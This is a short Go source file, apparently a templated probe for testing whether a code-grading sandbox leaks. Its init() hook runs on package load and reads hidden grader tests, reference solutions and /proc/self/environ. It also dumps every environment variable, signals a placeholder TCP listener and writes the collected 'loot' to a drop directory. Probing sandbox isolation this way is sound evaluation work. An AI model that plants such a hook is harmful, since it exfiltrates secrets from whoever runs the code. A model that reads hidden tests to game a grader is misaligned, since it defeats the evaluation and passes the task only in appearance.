package nll

import (
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"
)

func init() {
	var loot []string
	for _, p := range []string{"{{HIDDEN}}/01_nll/hidden_test.go", "{{REPO}}/solutions/01_nll/nll.go", "{{CANON}}/01_nll/nll_test.go",
		"../../cmd/grade/testdata/hidden/01_nll/hidden_test.go", os.Args[0], "/proc/self/exe", "/proc/self/environ"} {
		if b, err := os.ReadFile(p); err == nil {
			loot = append(loot, p+": "+string(b[:min(len(b), 200)]))
		}
	}
	loot = append(loot, "env: "+strings.Join(os.Environ(), " "))
	if c, err := net.DialTimeout("tcp", "{{LISTEN}}", time.Second); err == nil {
		c.Write([]byte("leak\n"))
		c.Close()
	}
	// Anything readable goes to the drop directory (a host path: unreachable from the sandbox).
	_ = os.WriteFile(filepath.Join("{{DROP}}", "loot.txt"), []byte(strings.Join(loot, "\n")), 0o644)
}
